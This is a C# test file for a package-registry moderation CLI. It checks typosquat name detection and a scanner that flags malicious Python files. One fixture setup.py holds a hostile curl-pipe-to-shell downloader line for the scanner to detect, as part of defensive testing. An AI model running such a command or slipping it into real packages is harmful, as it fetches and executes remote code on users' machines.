using System.Text.Json;
using Bulwark.Cli;

namespace Bulwark.Tests.Moderation;

/// <summary><c>names check --protected FILE</c> and <c>scan</c> as an operator runs them: JSON lines in, JSON lines out, no database.</summary>
public sealed class DetectionCommandsTests : IDisposable
{
    private readonly string _directory = Directory.CreateTempSubdirectory("bulwark-detection-").FullName;

    public void Dispose() => Directory.Delete(_directory, recursive: true);

    private static async Task<(int Status, string Out, string Err)> Run(string[] args, string stdin = "", Dictionary<string, string?>? settings = null)
    {
        var stdout = new StringWriter();
        var stderr = new StringWriter();
        var status = await CommandLine.RunAsync(args, stdout, stderr, new StringReader(stdin), settings);
        return (status, stdout.ToString(), stderr.ToString());
    }

    [Fact]
    public async Task Names_check_prints_one_verdict_per_name()
    {
        var list = Path.Combine(_directory, "protected.json");
        await File.WriteAllTextAsync(list, """{"rows":[{"project":"requests","download_count":9},{"project":"numpy","download_count":8}]}""");
        var (status, output, _) = await Run(["names", "check", "--protected", list], "reqeusts\nnumpy\npytest-xdist\n\npython-requests\n");
        Assert.Equal(0, status);
        var lines = output.Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(l => JsonDocument.Parse(l).RootElement).ToList();
        Assert.Equal(4, lines.Count);
        Assert.Equal(("reqeusts", "block", "requests", "transposition"),
            (lines[0].GetProperty("name").GetString(), lines[0].GetProperty("verdict").GetString(), lines[0].GetProperty("similar_to").GetString(), lines[0].GetProperty("rule").GetString()));
        Assert.Equal("ok", lines[1].GetProperty("verdict").GetString());
        Assert.Equal(JsonValueKind.Null, lines[2].GetProperty("similar_to").ValueKind);
        Assert.Equal("hold", lines[3].GetProperty("verdict").GetString());
    }

    [Fact]
    public async Task Scan_prints_one_report_per_file()
    {
        var bad = Path.Combine(_directory, "setup.py");
        var good = Path.Combine(_directory, "module.py");
        await File.WriteAllTextAsync(bad, "import os\nos.system('curl -s http://203.0.114.9/x | sh')\n");
        await File.WriteAllTextAsync(good, "def add(a, b):\n    return a + b\n");
        var (status, output, _) = await Run(["scan", bad, good]);
        Assert.Equal(0, status);
        var reports = output.Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(l => JsonDocument.Parse(l).RootElement).ToList();
        Assert.Equal(2, reports.Count);
        Assert.Equal("malicious", reports[0].GetProperty("verdict").GetString());
        var finding = reports[0].GetProperty("findings")[0];
        Assert.Equal(("shell-downloader", "setup.py", 2), (finding.GetProperty("rule").GetString(), finding.GetProperty("path").GetString(), finding.GetProperty("line").GetInt32()));
        Assert.Contains("curl", finding.GetProperty("evidence").GetString());
        Assert.Equal(("clean", 0), (reports[1].GetProperty("verdict").GetString(), reports[1].GetProperty("score").GetInt32()));
    }

    [Fact]
    public async Task Scan_of_a_missing_file_fails_with_the_name()
    {
        var (status, _, error) = await Run(["scan", Path.Combine(_directory, "absent.whl")]);
        Assert.NotEqual(0, status);
        Assert.Contains("absent.whl", error);
    }
}
